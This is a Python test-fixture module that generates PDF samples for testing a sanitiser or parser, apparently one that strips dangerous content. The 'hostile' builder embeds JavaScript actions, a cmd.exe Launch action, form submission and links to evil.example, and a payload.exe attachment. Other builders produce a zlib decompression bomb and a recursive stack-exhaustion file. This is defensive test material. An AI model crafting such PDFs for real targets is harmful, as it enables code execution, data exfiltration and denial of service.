"""PDFs as scanners, shops and hostile people send them."""

import io
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.media import samples

TEXT = b"BT /F1 12 Tf 20 20 Td (Rechnung 42) Tj ET"
SCRIPT = "app.alert('GEHEIMES SKRIPT')"
SECRET = samples.SECRET


def saved(pdf: Pdf, **options: Any) -> bytes:
    kept = io.BytesIO()
    pdf.save(kept, **options)
    return kept.getvalue()


def blank(pages: int = 1) -> Pdf:
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(200, 200)).obj
        page.Contents = pdf.make_stream(TEXT)
        # fonts may be called like things that are dangerous elsewhere
        page.Resources = Dictionary(Font=Dictionary(F1=font, AA=font, JS=font, EF=font, AF=font))
    return pdf


def pdf(pages: int = 1, **options: Any) -> bytes:
    return saved(blank(pages), **options)


def locked(user: str, owner: str = "owner") -> bytes:
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def hostile() -> bytes:
    """One page with everything that acts, reaches out, hides something or tells of people."""
    made = blank()
    root, page = made.Root, made.pages[0].obj
    root.OpenAction = _script()
    root.AA = Dictionary(WC=_script())
    root.URI = Dictionary(Base=String("https://evil.example/"))
    root.Metadata = Stream(made, f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode(), Type=Name.Metadata, Subtype=Name.XML)
    root.Hidden = made.make_indirect(Dictionary(Deep=Array([Dictionary(A=_script())])))
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), made.make_indirect(_script())])))
    made.attachments["payload.exe"] = b"GEHEIME DATEI"
    page.AA = Dictionary(O=_script())
    page.PieceInfo = Dictionary(App=Dictionary(Private=String(SECRET)))
    page.Annots = Array([made.make_indirect(each) for each in _notes(made)])
    root.AcroForm = Dictionary(Fields=Array([page.Annots[0]]), XFA=Stream(made, b"<xdp>GEHEIMES FORMULAR</xdp>"))
    root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines))
    mark = made.make_indirect(Dictionary(Title=String("1"), Parent=root.Outlines, A=Dictionary(
        S=Name.GoTo, D=Array([page, Name.Fit]), Next=Array([_script()]))))
    root.Outlines.First = root.Outlines.Last = mark
    made.docinfo["/Author"], made.docinfo["/Title"] = SECRET, SECRET
    return saved(made)


def _notes(made: Pdf) -> list[Dictionary]:
    place = Array([10, 10, 50, 50])
    link = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": place}
    return [
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=place, FT=Name.Tx, T=String("amount"), V=String("12,50"),
                   AA=Dictionary(K=_script()), A=_script()),
        Dictionary(**link, A=Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
        Dictionary(**link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=place, FS=Dictionary(
            Type=Name.Filespec, F=String("x"), EF=Dictionary(F=Stream(made, b"GEHEIME DATEI")))),
        Dictionary(Type=Name.Annot, Subtype=Name.FreeText, Rect=place, Contents=String("bezahlt"),
                   A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))),
    ]


def with_photo(photo: bytes) -> bytes:
    """A page that is a photo, stored as the phone made it."""
    made = blank()
    image = Stream(made, photo, Type=Name.XObject, Subtype=Name.Image, Width=80, Height=40, BitsPerComponent=8,
                   ColorSpace=Name.DeviceRGB, Filter=Name.DCTDecode)
    made.pages[0].obj.Resources.XObject = Dictionary(Im0=image)
    return saved(made)


def bomb(megabytes: int) -> bytes:
    """A small file whose list of objects unpacks to so many megabytes."""
    things = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>"]
    places = b"1 0 2 100 3 200 "
    press = zlib.compressobj(9)
    packed = press.compress(places + b"".join(each.ljust(100) for each in things))
    packed += b"".join(press.compress(b" " * 1_000_000) for _ in range(megabytes)) + press.flush()
    head = b"%PDF-1.5\n"
    list_ = b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(places)
    body = head + _stream(4, list_, packed)
    found = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, len(head), 0), (1, len(body), 0)]
    rows = b"".join(bytes([kind]) + at.to_bytes(4, "big") + number.to_bytes(2, "big") for kind, at, number in found)
    end = b"startxref\n%d\n%%%%EOF\n" % len(body)
    return body + _stream(5, b"/Type /XRef /Size 6 /Root 1 0 R /W [1 4 2]", rows) + end


def downfall(depth: int) -> bytes:
    """Streams whose length stands in the next stream, and so on: who follows that runs out of stack."""
    things = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> /Contents 4 0 R >>"]
    things += [b"<< /Length %d 0 R >>\nstream\nx\nendstream" % number for number in range(5, depth)]
    body, places = bytearray(b"%PDF-1.5\n"), []
    for number, thing in enumerate([*things, b"1"], 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, len(body))
    return bytes(body) + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, rows) + end


def _stream(number: int, about: bytes, data: bytes) -> bytes:
    return b"%d 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (number, about, len(data), data)


def opened(data: bytes) -> Pdf:
    return Pdf.open(io.BytesIO(data))


def everything(data: bytes) -> bytes:
    """All that a file holds, unpacked."""
    return saved(opened(data), qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
